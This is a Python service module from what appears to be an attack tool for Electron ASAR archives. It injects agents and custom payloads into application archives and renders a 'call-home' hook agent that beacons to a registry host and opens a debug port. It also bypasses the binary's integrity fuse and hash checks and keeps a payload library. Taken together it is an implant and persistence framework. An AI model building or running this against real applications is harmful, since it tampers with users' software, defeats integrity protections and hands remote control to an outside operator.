"""
Injector Service - Archive Patching Operations

Host-facing operations over the archive layer. Every method returns
`{"success": True, ...}` or `{"success": False, "error": ...}` so callers
(API routes, CLI) can render failures without handling exceptions.

Responsibilities:
- First-time setup and payload injection with backups
- Hook agent rendering and injection
- Backup listing, restore and delete
- Integrity inspection, bypass and restore
- Payload library access
"""

import logging
import uuid
from typing import Any, Dict, Optional

from core.agent_injector import AgentInjector, resolve_archive_path
from core.agent_templates import default_hook_values, render_hook_agent
from core.asar_archive import ArchiveBridge
from core.backup_store import BackupStore
from core.exceptions import AsarHookError
from core.integrity_rebinder import IntegrityRebinder
from core.payload_library import PayloadLibrary
from shared.settings import AsarHookSettings, get_settings

logger = logging.getLogger(__name__)


def failure(error: Exception) -> Dict[str, Any]:
    result: Dict[str, Any] = {"success": False, "error": str(error)}
    if isinstance(error, AsarHookError):
        if error.path:
            result["path"] = error.path
        if error.pattern:
            result["pattern"] = error.pattern
    return result


class InjectorService:
    """Archive injection, backup and integrity operations"""

    def __init__(self, settings: Optional[AsarHookSettings] = None):
        self.settings = settings or get_settings()
        self.bridge = ArchiveBridge()
        self.backups = BackupStore(self.settings.BACKUPS_DIR)
        self.payloads = PayloadLibrary(self.settings.PAYLOADS_DIR)
        self.injector = AgentInjector(self.bridge, self.backups, tmp_dir=self.settings.TMP_DIR)
        self.rebinder = IntegrityRebinder(self.bridge, tmp_dir=self.settings.TMP_DIR)

    # ==================== Injection ====================

    def setup(self, archive_path: str) -> Dict[str, Any]:
        """Inject the passthrough agent into a freshly selected archive"""
        try:
            self.payloads.initialize()
            result = self.injector.setup(archive_path, self.payloads.passthrough_path)
        except (AsarHookError, OSError) as e:
            logger.error(f"Setup failed for {archive_path}: {e}")
            return failure(e)
        logger.info(f"Setup complete for {archive_path}")
        return {"success": True, **result.to_dict()}

    def inject(self, agent_path: str, archive_path: str, entry_script: Optional[str] = None) -> Dict[str, Any]:
        try:
            result = self.injector.inject(agent_path, archive_path, entry_script)
        except (AsarHookError, OSError) as e:
            logger.error(f"Injection of {agent_path} into {archive_path} failed: {e}")
            return failure(e)
        return {"success": True, **result.to_dict()}

    def hook(
        self,
        archive_path: str,
        app_uuid: Optional[str] = None,
        debug_port: Optional[int] = None,
        enable_call_home: bool = True,
        entry_script: Optional[str] = None,
    ) -> Dict[str, Any]:
        """Render the call-home agent for this archive and inject it"""
        app_uuid = app_uuid or str(uuid.uuid4())
        values = default_hook_values(
            app_uuid,
            debug_port=debug_port or self.settings.CONTROL_PORT_BASE,
            debug_host=self.settings.AGENT_HOST,
            call_home_host=self.settings.REGISTRY_HOST,
            call_home_port=self.settings.REGISTRY_PORT,
            call_home_interval=self.settings.CALL_HOME_INTERVAL_MS,
            job_timeout=self.settings.JOB_TIMEOUT_MS,
            enable_call_home=enable_call_home,
        )
        try:
            source = render_hook_agent(app_uuid, values)
            result = self.injector.inject_source(source, archive_path, entry_script)
        except (AsarHookError, OSError) as e:
            logger.error(f"Hook injection into {archive_path} failed: {e}")
            return failure(e)
        return {"success": True, "uuid": app_uuid, "debugPort": values["DEBUG_PORT"], **result.to_dict()}

    # ==================== Backups ====================

    def list_backups(self, archive_path: Optional[str] = None) -> Dict[str, Any]:
        try:
            backups = [record.to_dict() for record in self.backups.list(archive_path)]
        except OSError as e:
            return failure(e)
        return {"success": True, "backups": backups, "count": len(backups)}

    def restore_backup(self, backup: str, archive_path: str) -> Dict[str, Any]:
        try:
            record = self.backups.restore(backup, archive_path)
        except (AsarHookError, OSError) as e:
            logger.warning(f"Restore of {backup} refused: {e}")
            return failure(e)
        return {"success": True, "restored": record.to_dict(), "archivePath": archive_path}

    def delete_backup(self, backup: str) -> Dict[str, Any]:
        try:
            record = self.backups.delete(backup)
        except (AsarHookError, OSError) as e:
            return failure(e)
        return {"success": True, "deleted": record.file_name}

    # ==================== Integrity ====================

    def archive_info(self, archive_path: str) -> Dict[str, Any]:
        try:
            info = self.bridge.info(resolve_archive_path(archive_path))
        except (AsarHookError, OSError) as e:
            return failure(e)
        return {"success": True, **info}

    def validate_integrity(self, binary_path: str, archive_path: str) -> Dict[str, Any]:
        try:
            report = self.rebinder.validate_integrity(binary_path, archive_path)
            report["fuseEnabled"] = self.rebinder.check_integrity_fuse(binary_path)
        except (AsarHookError, OSError) as e:
            return failure(e)
        return {"success": True, **report}

    def bypass(self, binary_path: str, archive_path: str, create_backups: bool = True) -> Dict[str, Any]:
        try:
            result = self.rebinder.bypass(binary_path, archive_path, create_backups=create_backups)
        except (AsarHookError, OSError) as e:
            logger.error(f"Integrity bypass failed: {e}")
            return failure(e)
        return result.to_dict()

    def restore_integrity(self, binary_path: str, archive_path: str) -> Dict[str, Any]:
        try:
            restored = self.rebinder.restore_from_backup(binary_path, archive_path)
        except OSError as e:
            return failure(e)
        return {"success": any(restored.values()), **restored}

    async def probe(self, binary_path: str, timeout: float = 10.0) -> Dict[str, Any]:
        try:
            hashes = await self.rebinder.probe_hash_from_launch(binary_path, timeout)
        except OSError as e:
            return failure(e)
        if hashes is None:
            return {"success": False, "error": "No integrity failure reported by the launcher"}
        return {"success": True, **hashes}

    # ==================== Payloads ====================

    def list_payloads(self) -> Dict[str, Any]:
        try:
            self.payloads.initialize()
            payloads = self.payloads.list()
        except OSError as e:
            return failure(e)
        return {"success": True, "payloads": payloads}

    def create_payload(self, name: str, content: str, category: str = "custom") -> Dict[str, Any]:
        try:
            path = self.payloads.create(name, content, category)
        except (AsarHookError, OSError, ValueError) as e:
            return failure(e)
        return {"success": True, "path": str(path)}

    def init_payloads(self) -> Dict[str, Any]:
        try:
            written = self.payloads.initialize()
        except OSError as e:
            return failure(e)
        return {"success": True, "written": written, "directory": str(self.payloads.payloads_dir)}

    def read_payload(self, relative_path: str) -> Dict[str, Any]:
        try:
            content = self.payloads.read(relative_path)
        except (OSError, ValueError) as e:
            return failure(e)
        return {"success": True, "relativePath": relative_path, "content": content}
